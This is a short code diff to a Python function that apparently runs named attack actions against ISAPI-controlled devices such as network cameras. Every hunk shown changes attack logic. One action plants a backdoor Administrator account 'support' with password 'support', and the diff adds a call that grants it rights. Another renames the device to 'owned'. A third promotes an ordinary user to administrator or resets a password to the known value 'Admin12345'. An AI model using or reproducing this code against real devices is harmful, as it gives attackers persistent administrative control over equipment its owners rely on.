@@ -32,7 +32,8 @@ def play(device: IsapiDevice, name: str) -> str:
         number = str(next(free for free in range(2, 40) if free not in taken))
         row = {"id": number, "userName": "support", "userLevel": "Administrator", "password": "support"}
         device.users.store(row)
-        device.keep()
+        device.give_rights(row)
+        device.keep_users()
         return "The administrator account support was created."
     if name == "rename":
         device.edit("System/deviceInfo", "deviceName", "owned")
@@ -65,7 +66,7 @@ def play(device: IsapiDevice, name: str) -> str:
         low = [row for row in device.users.rows if row["userLevel"] != "Administrator"]
         row = low[-1] if low else device.users.rows[0]
         row |= {"userLevel": "Administrator"} if low else {"password": "Admin12345"}
-        device.keep()
+        device.keep_users()
         done = "was made an administrator" if low else "got a password from the list of known ones"
         return f"The account {row['userName']!r} {done}."
     if name == "firmware-changed":
